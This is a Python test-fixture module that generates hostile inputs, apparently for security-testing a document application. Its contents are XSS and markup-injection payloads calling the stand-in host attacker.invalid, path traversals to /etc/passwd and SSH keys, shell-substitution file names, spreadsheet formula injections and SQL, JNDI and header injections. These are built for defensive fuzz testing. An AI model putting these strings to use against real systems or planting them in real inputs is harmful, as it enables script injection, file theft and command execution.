"""Hostile texts: one that carries every trick of the pages at once, and seeded series for everything else."""

from __future__ import annotations

import random
from collections.abc import Iterator

FOREIGN = "attacker.invalid"  # a name that no resolver knows (RFC 6761)
MARK = "planted-text"  # stands at the end of PAYLOAD, so that a test can see that it was shown at all

# Breaks out of an attribute, an element, a script, a Markdown link; loads pictures, styles, frames and a redirect from elsewhere.
PAYLOAD = (
    f'"\'></script></textarea></title></style><img src="http://{FOREIGN}/a.png" onerror="window.__planted=1" data-planted="1">'
    '<script>window.__planted=2;alert(2)</script><svg onload="window.__planted=3"></svg>'
    f'<iframe src="http://{FOREIGN}/f"></iframe><link rel="stylesheet" href="http://{FOREIGN}/s.css">'
    f'<meta http-equiv="refresh" content="0;url=http://{FOREIGN}/m"><style>@import url(http://{FOREIGN}/i.css)</style>'
    f"![picture](http://{FOREIGN}/p.png) [hidden](javascript:window.__planted=4) [link](http://{FOREIGN}/l?q=) "
    f"<http://{FOREIGN}/auto> :red[red] $\\href{{javascript:window.__planted=5}}{{x}}$ {MARK}"
)
CONTROLS = "".join(map(chr, [*range(1, 32), 127, 0x85])) + "\u202e\u2066\u200b\ufeff"  # and what turns the writing direction
LONG = "W" * 100_000  # nowhere to break a line
# The same for names of files and the like, which take no slash and are short.
NAME = f'"><img src=x onerror=window.__planted=6 data-planted=1>![p](http:) {MARK}'

_SCRIPTS = (
    "<script>window.__planted={n}</script>",
    '"><img src=//{host}/{n} onerror=window.__planted={n}>',
    "'-window.__planted={n}-'",
    "</title><svg/onload=window.__planted={n}>",
    "<a href=javascript:window.__planted={n}>x</a>",
    "![x](http://{host}/{n}.png)",
    "[x](javascript:window.__planted={n})",
    "<style>@import '//{host}/{n}';</style>",
    "{{{{7*{n}}}}}${{{n}}}",
    "&lt;script&gt;window.__planted={n}&lt;/script&gt;",
    "\u202e<b onmouseover=window.__planted={n}>\u2066",
    "<\x00script>window.__planted={n}</script>",
)
_TRAVERSALS = (
    "../" * 8 + "etc/passwd{n}",
    "..\\" * 8 + "windows\\win{n}.ini",
    "/etc/passwd{n}",
    "C:\\boot{n}.ini",
    "....//....//x{n}",
    "%2e%2e%2f%2e%2e%2fetc%2fpasswd{n}",
    "..%c0%af..%c0%afx{n}",
    "x{n}.md\x00.png",
    ".",
    "..",
    "",
    " ",
    "~/.ssh/id_rsa{n}",
    "//{host}/share/x{n}",
    "file:///etc/passwd{n}",
    "x{n}.md/../../y",
    "CON{n}",
    "\ud83d{n}",
    "a" * 5000 + "{n}.md",
    "x{n}." + "s" * 400,
    "-rf {n}",
    "$(touch /tmp/ragdeck-{n})",
    "`touch x{n}`;x",
    "x{n}\n../y",
    "\u2024\u2024/x{n}",
    "..\u2215..\u2215x{n}",
)
_FORMULAS = (
    "=",
    "+",
    "-",
    "@",
    "\t=",
    "\r=",
    "\n=",
    "=cmd|' /C calc'!A",
    '=HYPERLINK("http://{host}/","x")&',
    "＝",
    "＋",
    "－",
    "＠",
)
_QUERIES = (
    "' OR 1=1 --{n}",
    '" ; DROP TABLE queries; --{n}',
    "%' UNION SELECT * FROM sqlite_master --{n}",
    "\\' or id != '{n}",
    'x") or (id > "{n}',
    "${{jndi:ldap://{host}/{n}}}",
    "{n}\r\nX-Injected: 1",
    "\x00{n}",
)
FAMILIES = {"script": _SCRIPTS, "traversal": _TRAVERSALS, "formula": _FORMULAS, "query": _QUERIES}


def series(family: str, count: int, seed: int = 7) -> Iterator[str]:
    """`count` texts of the family, each with a number of its own; the same ones for the same seed."""
    chance = random.Random(f"{family}{seed}")
    shapes = FAMILIES[family]
    for number in range(count):
        text = shapes[number % len(shapes)].format(n=number, host=FOREIGN)
        if number >= len(shapes):
            extra = chance.choice(("", " ", "\u200b", "x" * chance.randrange(60), chr(chance.randrange(0x20, 0x2FFF))))
            text = text + extra if chance.random() < 0.7 else text + chance.choice(shapes).format(n=number, host=FOREIGN)
        yield text
